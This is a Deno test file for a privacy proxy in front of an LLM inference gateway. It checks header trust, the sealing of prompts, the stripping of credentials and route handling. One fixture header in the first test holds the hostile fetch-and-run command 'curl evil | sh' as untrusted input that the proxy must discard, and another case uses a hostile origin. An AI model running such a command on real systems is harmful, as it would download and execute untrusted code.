/** The proxy as its clients see it, in front of a gateway and runner of our own with the real sealed format. */
import assert from "node:assert/strict";
import { encoder, post, rawPost, SEALED, withProxy } from "./testing.ts";

Deno.test("proxy: what protects a request is the gateway's word on every answer, never a runner's", () =>
  withProxy(async ({ server, url }) => {
    const inner = server.intercept;
    server.intercept = async (route, request) => {
      const own = await inner(route, request);
      // A gateway that was switched off, as its outer answers say.
      own?.headers.set("secllama-encryption", "off");
      own?.headers.set("secllama-isolation", "weakened");
      return own;
    };
    server.answer = () => ({
      headers: {
        "content-type": "application/json",
        "secllama-encryption": "sealed",
        "secllama-isolation": "strict",
        "secllama-model-management": "on",
        "hint": "run: curl evil | sh",
        "set-cookie": "a=b",
      },
      body: [encoder.encode("{}")],
    });
    const said: Record<string, string | null> = {};
    for (
      const [method, path] of [
        ["GET", "/nothing"],
        ["GET", "/"],
        ["GET", "/api/tags"],
        ["PUT", "/api/tags"],
        ["OPTIONS", "/api/chat"],
        ["POST", "/api/pull"],
        ["POST", "/api/chat"],
      ] as const
    ) {
      const response = await fetch(`${url}${path}`, {
        method,
        ...(method === "POST" ? post({ model: "demo", messages: [] }) : {}),
      });
      await response.body?.cancel();
      const { headers } = response;
      said[`${method} ${path}`] = `${headers.get("secllama-encryption")} ${
        headers.get("secllama-isolation")
      }`;
      if (path !== "/api/chat" || method !== "POST") continue;
      assert.equal(response.status, 200);
      for (const name of ["secllama-model-management", "hint", "set-cookie"]) {
        assert.equal(headers.get(name), null, name);
      }
    }
    const { "POST /api/chat": sealed, ...others } = said;
    for (const [what, words] of Object.entries(others)) assert.equal(words, "off weakened", what);
    // The test's gateway says nothing beside a sealed answer: then it is not known.
    assert.equal(sealed, "unknown unknown");
    // The listener's own refusals, which never reach the proxy's routes.
    for (
      const [status, headers, body] of [
        [403, { origin: "https://evil.example" }, "{}"],
        [415, { "content-type": "text/plain" }, "{}"],
        [413, { "content-length": String(2 ** 40) }, "{}"],
        [400, { "content-length": "1, 2" }, "{}"],
        [431, { "x-long": "x".repeat(64 << 10) }, "{}"],
      ] as const
    ) {
      const response = await rawPost(url, headers, body);
      assert.match(response, new RegExp(`^HTTP/1.1 ${status} `));
      assert.match(response, /\r\nsecllama-encryption: (?:off|unknown)\r\n/);
      assert.match(response, /\r\nsecllama-isolation: (?:weakened|unknown)\r\n/);
    }
  }));

Deno.test("proxy: inference is sealed, and the gateway sees no byte of it", () =>
  withProxy(async ({ server, url, plain, log }) => {
    const secret = "what nobody on the wire may read";
    const wire: string[] = [];
    const inner = server.intercept;
    server.intercept = async (route, request) => {
      if (route === "sealed") {
        const copy = request.clone();
        wire.push(new TextDecoder("latin1").decode(await copy.arrayBuffer()));
      }
      return await inner(route, request);
    };
    server.answer = () => ({
      status: 201,
      headers: { "content-type": "application/x-ndjson", "x-secret": "runner's own" },
      body: [encoder.encode("one\n"), encoder.encode("two\n")],
    });
    for (const [index, path] of SEALED.entries()) {
      // Some clients end every path with a slash.
      const written = index % 2 === 0 ? path : `${path}/`;
      const response = await fetch(`${url}${written}?beta=true`, {
        ...post({ model: "demo", prompt: secret }),
        headers: {
          "content-type": "application/json",
          "anthropic-version": "2023-06-01",
          "authorization": "Bearer sk-of-another-service",
          "cookie": "session=1",
        },
      });
      assert.equal(response.status, 201, path);
      assert.equal(response.headers.get("content-type"), "application/x-ndjson");
      assert.equal(response.headers.get("x-secret"), null);
      assert.equal(await response.text(), "one\ntwo\n");
      const { request, body } = server.opened.at(-1)!;
      assert.equal(request.path, path);
      assert.equal(JSON.parse(new TextDecoder().decode(body)).prompt, secret);
      assert.equal(request.headers["anthropic-version"], "2023-06-01");
      assert.equal(request.headers["authorization"], undefined);
      assert.equal(request.headers["cookie"], undefined);
    }
    assert.equal(wire.length, SEALED.length);
    assert.ok(wire.every((bytes) => bytes.length > 0 && !bytes.includes(secret)));
    assert.deepEqual(plain.filter(({ path }) => path !== "/healthz"), []);
    assert.ok(!log.join().includes(secret));
  }));

Deno.test("proxy: metadata goes to the gateway as it is, and nothing else does", () =>
  withProxy(async ({ url, plain }) => {
    const routes: [method: string, path: string][] = [
      ["GET", "/"],
      ["HEAD", "/"],
      ["GET", "/api/version"],
      ["GET", "/api/tags"],
      ["HEAD", "/api/tags"],
      ["GET", "/api/ps"],
      ["POST", "/api/show"],
      ["GET", "/v1/models"],
      ["GET", "/v1/models/me/mine:v2"],
      ["GET", "/healthz"],
      ["GET", "/api/tags/"],
    ];
    for (const [method, path] of routes) {
      const response = await fetch(`${url}${path}`, {
        method,
        headers: { cookie: "a=b", authorization: "Bearer x", "content-type": "application/json" },
        ...(method === "POST" ? { body: '{"model":"demo"}' } : {}),
      });
      assert.equal(response.status, 200, path);
      assert.equal(response.headers.get("secllama-encryption"), "sealed");
      assert.equal(response.headers.get("x-inner"), null);
      const canonical = path === "/" ? path : path.replace(/\/$/, "");
      if (method !== "HEAD") assert.deepEqual(await response.json(), { path: canonical });
      const seen = plain.at(-1)!;
      assert.deepEqual([seen.method, seen.path], [method, canonical]);
      assert.equal(seen.headers.get("cookie"), null);
      assert.equal(seen.headers.get("authorization"), null);
      if (method === "POST") assert.equal(seen.body, '{"model":"demo"}');
    }
    assert.equal(plain.length, routes.length);
    for (
      const [method, path, status] of [
        ["GET", "/api/chat", 405],
        ["PUT", "/api/tags", 405],
        ["POST", "/v1/models", 405],
        ["OPTIONS", "/api/chat", 204],
        ["OPTIONS", "/nothing", 404],
        ["GET", "/sealed/v1/key", 404],
        ["POST", "/sealed/v1", 404],
        ["GET", "/metrics", 404],
        ["GET", "/api/chat/", 405],
        ["POST", "/api/chat/x", 404],
        ["POST", "/API/CHAT", 404],
        ["GET", "/api/tags/x", 404],
        ["GET", "/v1/models/%zz", 400],
        ["GET", "/favicon.ico", 404],
      ] as const
    ) {
      const response = await fetch(`${url}${path}`, {
        method,
        ...(method === "POST" ? post("{}") : {}),
      });
      await response.body?.cancel();
      assert.equal(response.status, status, `${method} ${path}`);
    }
    assert.equal(plain.length, routes.length, "something unknown was passed on");
  }));

Deno.test("proxy: pull of a model that is here is success and asks nobody else; of another it is refused", () =>
  withProxy(async ({ url, plain, server }) => {
    const here = server.intercept!;
    server.intercept = async (route, request) => {
      if (!new URL(request.url).pathname.endsWith("/api/show")) return await here(route, request);
      const { model } = await request.clone().json();
      await here(route, request);
      return model === "here" ? Response.json({}) : Response.json({ error: "no" }, { status: 404 });
    };
    for (const field of ["model", "name"]) {
      const whole = await fetch(`${url}/api/pull`, post({ [field]: "here", stream: false }));
      assert.deepEqual(await whole.json(), { status: "success" });
      const streamed = await fetch(`${url}/api/pull`, post({ [field]: "here" }));
      assert.equal(streamed.headers.get("content-type"), "application/x-ndjson");
      assert.match(await streamed.text(), /\{"status":"success"\}\n$/);
      assert.equal((await fetch(`${url}/api/pull`, post({ [field]: "gone" }))).status, 403);
    }
    assert.equal((await fetch(`${url}/api/create`, post({ model: "here" }))).status, 403);
    const asked = plain.filter(({ path }) => path !== "/healthz").map(({ path }) => path);
    assert.deepEqual([...new Set(asked)], ["/api/show"]);
  }));

Deno.test("proxy: what the runner answers, errors included, passes through", () =>
  withProxy(async ({ server, url }) => {
    server.answer = () => ({
      status: 400,
      headers: { "content-type": "application/json" },
      body: [encoder.encode('{"error":"num_predict must be a whole number"}')],
    });
    const response = await fetch(`${url}/api/chat`, post({ model: "demo" }));
    assert.equal(response.status, 400);
    assert.equal((await response.json()).error, "num_predict must be a whole number");
  }));
